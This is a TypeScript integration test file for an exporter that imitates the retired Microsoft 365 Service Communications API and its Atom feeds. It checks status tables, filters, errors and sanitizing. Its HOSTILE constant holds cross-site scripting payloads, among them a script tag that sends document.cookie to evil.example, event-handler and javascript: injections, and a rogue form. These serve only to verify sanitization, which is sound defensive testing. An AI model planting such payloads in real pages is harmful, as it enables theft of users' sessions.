/**
 * The retired Service Communications API's paths and the Atom feeds, served by the built exporter from what it read
 * from the simulated tenant. The first block replays the calls of the German PowerShell walk-through (shared/seeds)
 * with the state it shows: Lync, OneDrive and SharePoint degraded by five incidents.
 */
import { DOMParser, type Element } from '@xmldom/xmldom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tenantConfig, type ExporterProcess } from '../helpers/exporterProcess.js';
import { startStack, type Stack } from '../helpers/stack.js';
import { waitFor } from '../helpers/wait.js';

const CONTOSO = { tenantId: '0d2d1a6e-1111-4c1e-9a7e-000000000101', clientId: '5a1c0c8e-2222-4b8e-8f3e-000000000101', clientSecret: 'contoso-legacy-secret' };
const FABRIKAM = { tenantId: '0d2d1a6e-1111-4c1e-9a7e-000000000102', clientId: '5a1c0c8e-2222-4b8e-8f3e-000000000102', clientSecret: 'fabrikam-legacy-secret' };
const HOSTILE = [
  '<p>Mitigation <a href="https://learn.microsoft.com/fix">steps</a>.</p>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src=x onerror="alert(1)"><a href="javascript:alert(2)" onclick="alert(3)">click</a>',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(4)"></svg><a href="  JaVaScRiPt:alert(5)">x</a>',
  '<style>body{display:none}</style><form action="https://evil.example"><input name=p></form>]]>&#0;\u0001',
].join('');

let stack: Stack;
let exporter: ExporterProcess;
let hostileMessage: string;

/** As PowerShell's Invoke-RestMethod sends it; the exporter without basic auth ignores the bearer token. */
const invokeRestMethod = async (path: string) => {
  const response = await exporter.fetch(path, { headers: { Authorization: 'Bearer eyJ0eXAiOiJKV1Qi', Accept: 'application/json' } });
  return { status: response.status, type: response.headers.get('content-type'), json: (await response.json()) as { value: Array<Record<string, unknown>>; error?: { code: string; message: string } } };
};

beforeAll(async () => {
  stack = await startStack({
    simulator: { tenants: [{ ...CONTOSO, services: 'default' }, { ...FABRIKAM, services: 3 }] },
    prepare(sim) {
      const t = sim.tenant(CONTOSO.tenantId);
      const open = (id: string, serviceId: string, title: string, featureGroup: string) => {
        t.openIssue({ id, serviceId, classification: 'incident', status: 'serviceDegradation', title, featureGroup, feature: featureGroup });
      };
      open('LY197383', 'Lync', "Can't send messages or make calls to specific federated users", 'Federation');
      t.updateIssue('LY197383', { status: 'serviceDegradation' });
      open('OD197264', 'OneDriveForBusiness', 'Users may be unable to sync', 'OneDrive for Business');
      open('OD197692', 'OneDriveForBusiness', 'Delays opening files', 'OneDrive for Business');
      open('SP197263', 'SharePoint', 'Search results delayed', 'SharePoint Features');
      open('SP197691', 'SharePoint', 'Users may be unable to access sites', 'SharePoint Features');
      t.openIssue({ id: 'EX666666', serviceId: 'Exchange', classification: 'advisory', title: 'Hostile post', post: HOSTILE });
      hostileMessage = t.addMessage({ title: 'Hostile <b>title</b> & co', category: 'planForChange', severity: 'critical', services: ['Exchange Online'], tags: ['Action required'], actionRequiredByDateTime: new Date(Date.now() + 7 * 86_400_000), body: HOSTILE });
    },
    config: ({ sim }) => ({
      refresh: { health: '1s', issues: '1s', messages: '1s' },
      tenants: [tenantConfig('contoso', sim, CONTOSO), tenantConfig('fabrikam', sim, FABRIKAM)],
    }),
  });
  ({ exporter } = stack);
  await waitFor('the issues and messages in the legacy Messages', async () => {
    const { json } = await invokeRestMethod('/api/v1.0/contoso/ServiceComms/Messages?$top=100');
    return json.value.some((m) => m.Id === 'SP197691') && json.value.some((m) => m.Id === hostileMessage);
  }, 30_000, 200);
});

afterAll(() => stack?.stop());

describe('the German walk-through against the exporter', () => {
  it('CurrentStatus: $o365status.value | ft id,status,statustime,incidentids', async () => {
    const { status, type, json } = await invokeRestMethod(`/api/v1.0/${CONTOSO.tenantId}/ServiceComms/CurrentStatus`);
    expect(status).toBe(200);
    expect(type).toBe('application/json; odata.metadata=minimal; charset=utf-8');
    expect(json['@odata.context' as keyof typeof json]).toMatch(/\/api\/v1\.0\/0d2d1a6e-1111-4c1e-9a7e-000000000101\/ServiceComms\/\$metadata#CurrentStatus$/);
    const table = Object.fromEntries(json.value.map((row) => [row.Id, { status: row.Status, incidentIds: row.IncidentIds }]));
    expect(table.Lync).toEqual({ status: 'ServiceDegradation', incidentIds: ['LY197383'] });
    expect(table.OneDriveForBusiness).toEqual({ status: 'ServiceDegradation', incidentIds: ['OD197264', 'OD197692'] });
    expect(table.SharePoint).toEqual({ status: 'ServiceDegradation', incidentIds: ['SP197263', 'SP197691'] });
    expect(table.Planner).toEqual({ status: 'ServiceOperational', incidentIds: [] });
    for (const row of json.value) expect(Math.abs(Date.parse(row.StatusTime as string) - (Date.now() - 86_400_000))).toBeLessThan(60_000);
    // $o365status.value | where {$_.IncidentIds} | select IncidentIds -ExpandProperty IncidentIds
    expect(json.value.flatMap((row) => row.IncidentIds as string[]).sort()).toEqual(['EX666666', 'LY197383', 'OD197264', 'OD197692', 'SP197263', 'SP197691']);
  });

  it("Messages?$filter=ID eq 'SP197263' answers that incident alone", async () => {
    const { status, json } = await invokeRestMethod("/api/v1.0/contoso/ServiceComms/Messages?$filter=ID%20eq%20'SP197263'");
    expect(status).toBe(200);
    expect(json.value.map((m) => m.Id)).toEqual(['SP197263']);
  });

  it('Messages?top eq 10 is answered like Messages, as the retired API did', async () => {
    const all = await invokeRestMethod('/api/v1.0/contoso/ServiceComms/Messages');
    const top = await invokeRestMethod('/api/v1.0/contoso/ServiceComms/Messages?top%20eq%2010');
    expect(top.json.value.map((m) => m.Id)).toEqual(all.json.value.map((m) => m.Id));
    expect(all.json.value.length).toBeGreaterThan(10);
  });

  it('$messages.value | ?{$_.Id -eq "LY197383"} has the fields the script reads', async () => {
    const { json } = await invokeRestMethod('/api/v1.0/contoso/ServiceComms/Messages');
    const incident = json.value.find((m) => m.Id === 'LY197383')!;
    expect(incident).toMatchObject({
      Status: 'Service degradation', Workload: 'Lync', WorkloadDisplayName: 'Skype for Business', Classification: 'Incident', MessageType: 'Incident',
      Feature: 'Federation', FeatureDisplayName: 'Federation', EndTime: null, Title: "Can't send messages or make calls to specific federated users",
      ImpactDescription: "Users may be affected by: Can't send messages or make calls to specific federated users",
    });
    const posts = incident.Messages as Array<{ PublishedTime: string; MessageText: string }>;
    expect(posts).toHaveLength(2);
    expect(posts[0]!.MessageText).toMatch(/^Title: Can't send messages or make calls to specific federated users\n\nUser Impact: /);
    expect(posts[1]!.MessageText).toBe("Current status: serviceDegradation. We'll provide an update within 30 minutes.");
    expect(Date.parse(posts[1]!.PublishedTime)).toBeGreaterThanOrEqual(Date.parse(posts[0]!.PublishedTime));
    expect(Date.parse(incident.LastUpdatedTime as string)).toBeGreaterThanOrEqual(Date.parse(incident.StartTime as string));
  });

  it('HistoricalStatus answers 501 until the history store; a bad filter 400 naming it', async () => {
    const historical = await invokeRestMethod('/api/v1.0/contoso/ServiceComms/HistoricalStatus');
    expect(historical.status).toBe(501);
    expect(historical.json.error?.message).toContain('history store');
    const bad = await invokeRestMethod("/api/v1.0/contoso/ServiceComms/Messages?$filter=Severity eq 'Sev1'");
    expect(bad).toMatchObject({ status: 400, json: { error: { code: 'InvalidFilter', message: "$filter: Messages cannot be filtered on 'Severity'; it can be filtered on Workload, StartTime, EndTime, MessageType, Id" } } });
    expect((await exporter.fetch('/api/v1.0/contoso/ServiceComms/Messages', { method: 'POST' })).status).toBe(405);
  });

  it('the message-center post in Messages is text, with no markup left', async () => {
    const { json } = await invokeRestMethod(`/api/v1.0/contoso/ServiceComms/Messages?$filter=Id eq '${hostileMessage}'&$select=Id,MessageType,Severity,Messages`);
    expect(json.value).toHaveLength(1);
    expect(json.value[0]).toMatchObject({ Id: hostileMessage, MessageType: 'MessageCenter', Severity: 'Critical' });
    const text = (json.value[0]!.Messages as Array<{ MessageText: string }>)[0]!.MessageText;
    expect(text).toContain('Mitigation steps.');
    expect(text).not.toMatch(/<|document\.cookie/);
  });
});

/**
 * Parses with a real XML parser; any error fails. (A warning is not an error: the hostile body's `&#0;` is U+FFFD once
 * decoded, valid XML that xmldom warns about.) XML 1.0 forbids the C0 controls, so the feed must hold none.
 */
function parseAtom(xml: string) {
  const problems: string[] = [];
  const doc = new DOMParser({ onError: (level, message) => level !== 'warning' && problems.push(`${level}: ${message}`) }).parseFromString(xml, 'text/xml');
  expect(problems).toEqual([]);
  expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
  const feed = doc.documentElement!;
  expect(feed.namespaceURI).toBe('http://www.w3.org/2005/Atom');
  expect(feed.localName).toBe('feed');
  const ATOM = 'http://www.w3.org/2005/Atom';
  const children = (parent: Element, name: string) => Array.from(parent.childNodes).filter((n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ATOM && (n as Element).localName === name);
  const text = (parent: Element, name: string) => {
    const [found, ...more] = children(parent, name);
    expect(found, name).toBeDefined();
    expect(more, `one ${name}`).toHaveLength(0);
    return found!.textContent ?? '';
  };
  return { feed, children, text };
}

const RFC3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;

describe('Atom feeds', () => {
  it('messages.atom?tenant=contoso: valid Atom, newest first, categories, deadline, sanitized body with links kept', async () => {
    const response = await exporter.fetch('/feeds/messages.atom?tenant=contoso');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/atom+xml; charset=utf-8');
    const { feed, children, text } = parseAtom(await response.text());
    expect(text(feed, 'id')).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/feeds\/messages\.atom\?tenant=contoso$/);
    expect(text(feed, 'title')).toBe('Microsoft 365 message center (contoso)');
    expect(text(feed, 'updated')).toMatch(RFC3339);
    expect(children(feed, 'link').map((l) => [l.getAttribute('rel'), l.getAttribute('href')])).toEqual([['self', text(feed, 'id')]]);
    const entries = children(feed, 'entry');
    expect(entries.length).toBe(6);
    const updated = entries.map((e) => Date.parse(text(e, 'updated')));
    expect(updated).toEqual([...updated].sort((a, b) => b - a));
    for (const entry of entries) {
      expect(text(entry, 'id')).toMatch(/^tag:m365-health-exporter,2025:contoso\/messages\/MC\d+$/);
      expect(text(entry, 'title')).not.toBe('');
      expect(text(entry, 'updated')).toMatch(RFC3339);
      expect(children(entry, 'author')).toHaveLength(1);
      expect(children(entry, 'content')[0]!.getAttribute('type')).toBe('html');
      expect(children(entry, 'category').length).toBeGreaterThanOrEqual(3);
    }
    const hostile = entries.find((e) => text(e, 'id').endsWith(`/${hostileMessage}`))!;
    expect(text(hostile, 'title')).toBe(`${hostileMessage}: Hostile <b>title</b> & co`);
    const categories = children(hostile, 'category').map((c) => `${c.getAttribute('scheme')!.split(':').pop()}=${c.getAttribute('term')}`);
    expect(categories).toEqual(['category=planForChange', 'severity=critical', 'service=Exchange Online', 'tag=Action required']);
    expect(hostile.getElementsByTagNameNS('tag:m365-health-exporter,2025:atom', 'actionRequiredBy')[0]!.textContent).toMatch(RFC3339);
    const html = text(hostile, 'content');
    expect(html).toContain('<a href="https://learn.microsoft.com/fix" rel="noopener noreferrer nofollow">steps</a>');
    expect(html).toContain('Action required by');
    expect(html).not.toMatch(/<script|<iframe|<svg|<style|<form|<img|\son\w+=|javascript:|document\.cookie/i);
  });

  it('issues.atom without tenant: every tenant, the hostile post sanitized', async () => {
    const { feed, children, text } = parseAtom(await (await exporter.fetch('/feeds/issues.atom')).text());
    expect(text(feed, 'title')).toBe('Microsoft 365 service health issues');
    const entries = children(feed, 'entry');
    const ids = entries.map((e) => text(e, 'id'));
    for (const id of ['LY197383', 'OD197264', 'OD197692', 'SP197263', 'SP197691', 'EX666666']) expect(ids).toContain(`tag:m365-health-exporter,2025:contoso/issues/${id}`);
    const hostile = entries.find((e) => text(e, 'id').endsWith('/EX666666'))!;
    expect(text(hostile, 'title')).toBe('[contoso] EX666666: Hostile post');
    expect(children(hostile, 'category').map((c) => c.getAttribute('term'))).toEqual(['advisory', 'investigating', 'Exchange Online']);
    const html = text(hostile, 'content');
    expect(html).toContain('href="https://learn.microsoft.com/fix"');
    expect(html).not.toMatch(/<script|<iframe|<svg|<img|\son\w+=|javascript:/i);
    const response = await exporter.fetch('/feeds/issues.atom?tenant=nobody');
    expect(response.status).toBe(400);
    expect(await response.text()).toBe('unknown tenant "nobody": not in the configuration\n');
  });
});
